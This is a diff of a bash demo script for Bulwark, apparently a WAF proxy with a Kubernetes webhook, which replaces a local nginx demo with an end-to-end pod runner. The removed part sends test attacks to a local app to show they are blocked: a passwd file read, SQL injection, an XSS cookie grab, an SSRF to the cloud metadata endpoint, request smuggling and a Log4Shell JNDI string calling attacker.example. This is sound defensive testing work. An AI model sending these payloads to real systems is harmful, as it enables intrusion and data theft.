@@ -1,109 +1,151 @@
 #!/usr/bin/env bash
-# The main job, for now: a real app (nginx) behind bulwark-proxy (block mode) on this machine:
-# clean requests pass, attacks get 403 and an event line, a smuggling attempt is refused, the
-# metrics show it all, then a graceful SIGTERM drain. `--keep` leaves both running until Ctrl-C.
+# The main job: Bulwark end to end on this machine. The example Deployment's pod goes through a
+# running bulwark-webhook as a real AdmissionReview over TLS; the returned JSON Patch is applied
+# and the patched pod runs like a kubelet would run it (tests/e2e/podrunner.py): a network
+# namespace with a veth to a client namespace, the bulwark-init init container with exactly the
+# UID and capabilities of its securityContext, then the app and bulwark-proxy. From the client
+# namespace, clean requests and attacks go to the pod IP on the app port — first in monitoring
+# (logged, not blocked), then in block (the webhook run again with the mode annotation).
 set -euo pipefail
 cd "$(dirname "$0")/.."
 ROOT=$(pwd)
-KEEP=0
-[ "${1:-}" = "--keep" ] && KEEP=1
-APP_PORT=${APP_PORT:-8080}
-PROXY_PORT=${PROXY_PORT:-26001}
-STATUS_PORT=${STATUS_PORT:-10246}
 
-./scripts/deps.sh
-echo "building bulwark (a first build takes several minutes on 2 cores)..."
-./scripts/build.sh | tail -n 1
-PROXY="$ROOT/build/bin/bulwark-proxy"
+CAPTURE=auto
+MODES=monitoring,block
+SCHEMA=single
+DEPLOYMENT=examples/app-deployment.yaml
+BUILD=1
+JSON_OUT=""
+APISERVER=0
 
-WORK=$(mktemp -d /tmp/bulwark-demo.XXXXXX)
-APP_PID=""; PROXY_PID=""
-cleanup() {
-  [ -n "$PROXY_PID" ] && kill "$PROXY_PID" 2>/dev/null || true
-  [ -n "$APP_PID" ] && kill "$APP_PID" 2>/dev/null || true
-  wait 2>/dev/null || true
-  rm -rf "$WORK"
+usage() {
+    cat <<EOF
+Usage: sudo ./scripts/demo.sh [options]
+
+  --capture MODE     auto (default) | nftables | iptables | none (capture off: clients use the
+                     container port 'proxy') | ebpf (only when this build's bulwark-init has it)
+  --mode LIST        filter modes to show, in order (default monitoring,block; also off,
+                     safe_blocking)
+  --schema single    the injection schema (split needs bulwark-helper, not in the image yet)
+  --deployment FILE  the example to run (default examples/app-deployment.yaml; the
+                     Wallarm-style one: examples/app-deployment-wallarm.yaml)
+  --no-build         use the binaries in \$BULWARK_BIN_DIR or build/bin as they are
+  --json-out FILE    also write the results as JSON
+  --apiserver        through a real API server instead: etcd + kube-apiserver +
+                     kube-controller-manager on this machine (tests/k8s; the first build takes
+                     ~15 min), helm install of the chart, kubectl apply of the example, and the
+                     Pod the ReplicaSet controller stored is the one that runs
+  -h, --help         this help
+Exit: 0 every check passed, 1 a check failed or the pod did not run, 2 usage.
+Needs root (network namespaces, netfilter, setpriv). Installs what it needs (scripts/deps.sh)
+and builds bulwark-init, bulwark-proxy and bulwark-webhook only.
+EOF
 }
-trap cleanup EXIT INT TERM
 
-mkdir -p "$WORK/logs" "$WORK/html"
-chmod 755 "$WORK" "$WORK/html"
-echo "<h1>demo app</h1>" > "$WORK/html/index.html"
-cat > "$WORK/app.conf" <<CONF
-worker_processes 1;
-daemon off;
-pid $WORK/app.pid;
-error_log $WORK/logs/error.log;
-events { worker_connections 1024; }
-http {
-  access_log $WORK/logs/access.log;
-  client_body_temp_path $WORK/body;
-  server {
-    listen 127.0.0.1:$APP_PORT;
-    root $WORK/html;
-    location /api/ { default_type application/json; return 200 '{"app":"demo","uri":"\$request_uri","xff":"\$http_x_forwarded_for","request_id":"\$http_x_request_id"}\n'; }
-  }
-}
-CONF
-step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+refuse() { echo "demo: $*" >&2; exit 2; }
 
-step "app: nginx on 127.0.0.1:$APP_PORT"
-nginx -c "$WORK/app.conf" -p "$WORK" & APP_PID=$!
-step "bulwark-proxy on 127.0.0.1:$PROXY_PORT -> 127.0.0.1:$APP_PORT (status :$STATUS_PORT)"
-"$PROXY" --listen "127.0.0.1:$PROXY_PORT" --status-listen "127.0.0.1:$STATUS_PORT" \
-  --app-port "$APP_PORT" --mode block > "$WORK/events.log" 2> >(tee "$WORK/proxy.log" >&2) &
-PROXY_PID=$!
-for _ in $(seq 1 50); do
-  curl -fs "http://127.0.0.1:$STATUS_PORT/readyz" >/dev/null 2>&1 && break
-  sleep 0.1
+while [ $# -gt 0 ]; do
+    case "$1" in
+        --capture) CAPTURE="${2:-}"; shift 2 ;;
+        --mode) MODES="${2:-}"; shift 2 ;;
+        --schema) SCHEMA="${2:-}"; shift 2 ;;
+        --deployment) DEPLOYMENT="${2:-}"; shift 2 ;;
+        --no-build) BUILD=0; shift ;;
+        --json-out) JSON_OUT="${2:-}"; shift 2 ;;
+        --apiserver) APISERVER=1; shift ;;
+        -h|--help) usage; exit 0 ;;
+        *) usage >&2; exit 2 ;;
+    esac
 done
-curl -s "http://127.0.0.1:$STATUS_PORT/readyz"
 
-step "GET /  (static page through the proxy)"
-curl -s -i "http://127.0.0.1:$PROXY_PORT/"
-step "GET /api/items?id=42 with keep-alive x3 (the app echoes X-Forwarded-For and X-Request-Id)"
-curl -s "http://127.0.0.1:$PROXY_PORT/api/items?id=42" "http://127.0.0.1:$PROXY_PORT/api/items?id=43" \
-  "http://127.0.0.1:$PROXY_PORT/api/items?id=44"
-step "POST a chunked body"
-printf 'name=demo&comment=hello' | curl -s -H 'Transfer-Encoding: chunked' --data-binary @- \
-  -o /dev/null -w 'status %{http_code}\n' "http://127.0.0.1:$PROXY_PORT/api/comments"
-step "A smuggling attempt (Content-Length + Transfer-Encoding) is refused"
-printf 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' |
-  timeout 5 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",'"$PROXY_PORT"')); s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).decode(errors="replace"))'
-step "Attacks are answered 403 before the app sees them (attack events are JSON lines on stdout)"
-for target in "/etc/passwd" "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" \
-              "/?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E" \
-              "/api/items?url=http://169.254.169.254/latest/meta-data/"; do
-  printf '%-70s -> ' "GET $target"
-  curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT$target"
+case "$CAPTURE" in
+    auto|nftables|iptables|none|ebpf) ;;
+    *) refuse "--capture $CAPTURE: use auto, nftables, iptables, none or ebpf" ;;
+esac
+IFS=, read -r -a MODE_LIST <<< "$MODES"
+[ ${#MODE_LIST[@]} -gt 0 ] || refuse "--mode: give at least one filter mode"
+for m in "${MODE_LIST[@]}"; do
+    case "$m" in
+        off|monitoring|safe_blocking|block) ;;
+        *) refuse "--mode $m: use off, monitoring, safe_blocking or block" ;;
+    esac
 done
-printf '%-70s -> ' "POST /api/login (JSON body with Log4Shell)"
-curl -s -o /dev/null -w '%{http_code}\n' -H 'Content-Type: application/json' \
-  --data '{"user":"${jndi:ldap://attacker.example/a}","password":"x"}' "http://127.0.0.1:$PROXY_PORT/api/login"
-printf '%-70s -> ' "GET /api/items?q=select+the+best+option (benign, SQL-like English)"
-curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT/api/items?q=select+the+best+option"
-sleep 0.2
-step "attack events (the proxy's stdout, one JSON line each; shortened here)"
-python3 - "$WORK/events.log" <<'PY'
-import json, sys
-for line in open(sys.argv[1]):
-    e = json.loads(line)
-    f = e["findings"][0] if e["findings"] else {}
-    print("%-8s %-18s rules=%-16s %s %s  [%s: %s]" % (e["action"], ",".join(e["classes"]),
-          ",".join(map(str, e["rule_ids"])), e["method"] or "-", e["path"][:50],
-          f.get("part", ""), f.get("value", "")[:40]))
-PY
-step "metrics (excerpt)"
-curl -s "http://127.0.0.1:$STATUS_PORT/metrics" | grep -E '^bulwark_(requests_total|connections_total|upstream_reused_total|bad_requests_total\{reason="te_cl"\}|attacks_total.* [1-9])'
-
-if [ "$KEEP" = 1 ]; then
-  step "running; try: curl http://127.0.0.1:$PROXY_PORT/  (Ctrl-C to stop)"
-  wait "$PROXY_PID"
-  exit 0
+case "$SCHEMA" in
+    single) ;;
+    split) refuse "--schema split adds the bulwark-helper container, whose binary is not in the image yet; use --schema single" ;;
+    *) refuse "--schema $SCHEMA: use single" ;;
+esac
+[ -f "$DEPLOYMENT" ] || refuse "--deployment $DEPLOYMENT: no such file"
+if [ "$(id -u)" -ne 0 ]; then
+    refuse "needs root: it creates network namespaces, installs capture rules and runs each container as its own UID with setpriv (try: sudo $0 $*)"
 fi
-step "SIGTERM: the proxy drains and exits 0"
-kill -TERM "$PROXY_PID"
-rc=0; wait "$PROXY_PID" || rc=$?
-PROXY_PID=""
-echo "bulwark-proxy exited with $rc"
+
+# Only the package lists the three binaries and the runner need (not the benchmark's WAF or
+# the image builder).
+./scripts/deps.sh base capture detect webhook demo
+
+BIN="${BULWARK_BIN_DIR:-$ROOT/build/bin}"
+if [ "$BUILD" = 1 ]; then
+    BUILD_DIR="${BULWARK_BUILD_DIR:-build}"
+    BIN="$ROOT/$BUILD_DIR/bin"
+    if [ ! -f "$BUILD_DIR/build.ninja" ]; then
+        echo "demo: configuring $BUILD_DIR (cmake)..."
+        cmake -S . -B "$BUILD_DIR" -G Ninja -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
+    fi
+    echo "demo: building bulwark-init bulwark-proxy bulwark-webhook (a first build takes several minutes on 2 cores)..."
+    ninja -C "$BUILD_DIR" bulwark-init bulwark-proxy bulwark-webhook | tail -n 1
+fi
+for b in bulwark-init bulwark-proxy bulwark-webhook; do
+    [ -x "$BIN/$b" ] || refuse "$BIN/$b not found (build it, or drop --no-build)"
+done
+
+if [ "$CAPTURE" = ebpf ]; then
+    if ! "$BIN/bulwark-init" --help 2>&1 | grep -qw ebpf; then
+        refuse "--capture ebpf: this build's bulwark-init does not list an ebpf mode"
+    fi
+    if ! msg=$("$BIN/bulwark-init" plan --mode ebpf --app-port 8080 2>&1); then
+        refuse "--capture ebpf: not available in this build: $msg"
+    fi
+fi
+
+K8S_ARGS=()
+if [ "$APISERVER" = 1 ]; then
+    REPO=$ROOT
+    BW_TEST=demo
+    # shellcheck source=../tests/testlib/k8s_tools.sh
+    source tests/testlib/k8s_tools.sh
+    bw_helm_tools
+    echo "demo: building the control plane (tests/k8s/build.sh; cached after the first time)..."
+    K8S_BIN=$(tests/k8s/build.sh)
+    K8S_ARGS=(--apiserver --k8s-bin "$K8S_BIN" --helm-bin "$BW_HELM_CACHE/bin")
+fi
+
+# The runner ends its pods itself (also on Ctrl-C); this trap covers a runner that was killed:
+# whatever still runs in its namespaces is ended and the namespaces are removed.
+RUNNER_PID=""
+cleanup() {
+    trap - EXIT INT TERM
+    if [ -n "$RUNNER_PID" ]; then
+        kill -TERM "$RUNNER_PID" 2>/dev/null || true
+        for _ in $(seq 1 100); do kill -0 "$RUNNER_PID" 2>/dev/null || break; sleep 0.1; done
+        kill -KILL "$RUNNER_PID" 2>/dev/null || true
+        for ns in $(ip netns list | awk '{print $1}' | grep -E "^bw-k(pod|cli|8s)-$RUNNER_PID-" || true); do
+            # shellcheck disable=SC2046
+            kill -KILL $(ip netns pids "$ns") 2>/dev/null || true
+            ip netns del "$ns" 2>/dev/null || true
+        done
+    fi
+}
+trap cleanup EXIT
+trap 'cleanup; exit 130' INT TERM
+
+args=(demo --bin "$BIN" --deployment "$DEPLOYMENT" --capture "$CAPTURE" --mode "$MODES"
+      --schema "$SCHEMA")
+[ -n "$JSON_OUT" ] && args+=(--json-out "$JSON_OUT")
+args+=("${K8S_ARGS[@]}")
+python3 tests/e2e/podrunner.py "${args[@]}" &
+RUNNER_PID=$!
+rc=0
+wait "$RUNNER_PID" || rc=$?
+RUNNER_PID=""
 exit "$rc"
